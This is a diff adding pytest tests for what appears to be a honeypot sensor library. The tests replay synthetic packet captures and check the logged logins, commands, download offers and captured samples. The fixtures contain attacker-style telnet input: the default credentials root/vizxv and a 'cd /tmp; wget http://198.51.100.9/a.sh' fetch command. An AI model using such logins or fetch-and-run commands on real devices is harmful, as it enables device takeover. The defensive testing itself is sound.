@@ -1,0 +1,161 @@
+"""Captures give the events that a sensor would have given."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from mead.errors import InputError
+from mead.model.codec import encode_line
+from mead.sensors.persona import Persona
+from mead.sensors.replay import replay
+
+CAPTURES = Path(__file__).parents[1] / "captures"
+
+
+class Frames:
+    """Writes a capture of TCP conversations."""
+
+    def __init__(self) -> None:
+        self.out = bytearray(bytes.fromhex("d4c3b2a1020004000000000000000000ffff000065000000"))  # raw IP
+        self.time = 1_700_000_000
+
+    def packet(
+        self,
+        source: tuple[bytes, int],
+        target: tuple[bytes, int],
+        flags: int,
+        sequence: int,
+        data: bytes = b"",
+    ) -> None:
+        tcp = source[1].to_bytes(2) + target[1].to_bytes(2) + sequence.to_bytes(4) + bytes(4)
+        tcp += bytes([5 << 4, flags]) + b"\xff\xff" + bytes(4) + data
+        ip = (
+            b"\x45\x00" + (20 + len(tcp)).to_bytes(2) + bytes(4) + b"\x40\x06\x00\x00" + source[0] + target[0]
+        )
+        frame = ip + tcp
+        self.time += 1
+        self.out += self.time.to_bytes(4, "little") + bytes(4) + len(frame).to_bytes(4, "little") * 2 + frame
+
+    def conversation(self, port: int, *pieces: bytes, source_port: int = 40000, end: bool = True) -> None:
+        client, server = (bytes([198, 51, 100, 7]), source_port), (bytes([192, 0, 2, 1]), port)
+        self.packet(client, server, 0x02, 99)
+        self.packet(server, client, 0x12, 499)
+        sequence = 100
+        for piece in pieces:
+            self.packet(client, server, 0x18, sequence, piece)
+            sequence += len(piece)
+        if end:
+            self.packet(client, server, 0x11, sequence)
+            self.packet(server, client, 0x11, 500)
+
+
+async def replayed(path: Path, bodies: Any = None) -> tuple[list[Any], Any]:
+    events: list[Any] = []
+    counts = await replay(path, "pcap", Persona(b"r" * 32), events.append, bodies=bodies)
+    assert counts.events == len(events)
+    return events, counts
+
+
+def of(events: list[Any], kind: str) -> list[Any]:
+    return [event for event in events if event.kind == kind]
+
+
+async def test_a_telnet_session_gives_logins_commands_and_offers(tmp_path: Path) -> None:
+    frames = Frames()
+    frames.conversation(
+        23, b"root\r\n", b"vizxv\r\n", b"cd /tmp; wget http://198.51.100.9/a.sh\r\n", b"exit\r\n"
+    )
+    path = tmp_path / "a.pcap"
+    path.write_bytes(frames.out)
+    events, counts = await replayed(path)
+    assert (counts.flows, counts.sessions, counts.truncated_bytes) == (1, 1, 0)
+    assert of(events, "login.attempt")[0].success
+    assert of(events, "offer.seen")[0].url == "http://198.51.100.9/a.sh"
+    assert of(events, "fetch.refused")[0].policy == "replay"
+    opened, closed = of(events, "session.open")[0], of(events, "session.close")[0]
+    assert (opened.src, opened.src_port, opened.dst_port, opened.service) == (
+        "198.51.100.7",
+        40000,
+        23,
+        "telnet",
+    )
+    assert closed.time > opened.time
+    assert closed.time.year == 2023
+
+
+async def test_http_is_known_on_any_port_and_uploads_are_bodies(
+    tmp_path: Path, elf: bytes, bench: Any
+) -> None:
+    frames = Frames()
+    head = (
+        b"POST /upload HTTP/1.1\r\nHost: x\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n"
+        % len(elf)
+    )
+    frames.conversation(7001, head, elf[:1000], elf[1000:])
+    path = tmp_path / "a.pcap"
+    path.write_bytes(frames.out)
+    bodies = bench("http").bodies
+    events, _ = await replayed(path, bodies)
+    (captured,) = of(events, "sample.captured")
+    assert bodies[captured.sha256] == elf
+    assert of(events, "request.received")[0].target == "/upload"
+
+
+async def test_a_second_replay_gives_the_same_events(tmp_path: Path) -> None:
+    frames = Frames()
+    frames.conversation(23, b"root\r\n", b"root\r\n", b"echo hello\r\n")
+    frames.conversation(80, b"GET / HTTP/1.0\r\n\r\n", source_port=40001)
+    path = tmp_path / "a.pcap"
+    path.write_bytes(frames.out)
+    first, second = (await replayed(path))[0], (await replayed(path))[0]
+    assert [encode_line(event) for event in first] == [encode_line(event) for event in second]
+    assert len({event.origin for event in first}) == 1
+
+
+async def test_unknown_payloads_are_kept_and_scans_counted(tmp_path: Path) -> None:
+    frames = Frames()
+    frames.conversation(4444, b"\x00\x01\x02mystery", b"more")
+    frames.conversation(22, source_port=40001)
+    path = tmp_path / "a.pcap"
+    path.write_bytes(frames.out)
+    events, counts = await replayed(path)
+    assert (counts.sessions, counts.scans) == (1, 1)
+    assert of(events, "payload.received")[0].size == 14
+
+
+async def test_a_truncated_capture_gives_what_it_has_and_says_so(tmp_path: Path) -> None:
+    frames = Frames()
+    frames.conversation(23, b"root\r\n", b"vizxv\r\n", b"id\r\n", end=False)
+    path = tmp_path / "a.pcap"
+    path.write_bytes(bytes(frames.out) + b"\x01\x02\x03\x04half a header")
+    events, counts = await replayed(path)
+    assert counts.truncated_bytes == 17
+    assert counts.problems
+    assert of(events, "command.input")[0].command == "id"
+    assert of(events, "loss.counted")[0].what == "capture"
+    assert of(events, "session.close")[0].reason == "end"
+
+
+async def test_a_file_that_is_no_capture_is_a_counted_problem_and_a_missing_one_an_error(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "x"
+    path.write_bytes(b"not a capture" * 100)
+    _, counts = await replayed(path)
+    assert counts.problems
+    with pytest.raises(InputError, match="No such file"):
+        await replayed(tmp_path / "missing.pcap")
+
+
+@pytest.mark.parametrize("path", sorted(CAPTURES.rglob("*.pcap*")), ids=lambda path: path.name)
+async def test_real_captures_are_read_to_their_end(path: Path) -> None:
+    if path.suffix == ".json":
+        pytest.skip("expected values, no capture")
+    events, counts = await replayed(path)
+    assert counts.frames > 0
+    for event in events:
+        encode_line(event)
+    assert len(of(events, "session.open")) == len(of(events, "session.close")) == counts.sessions
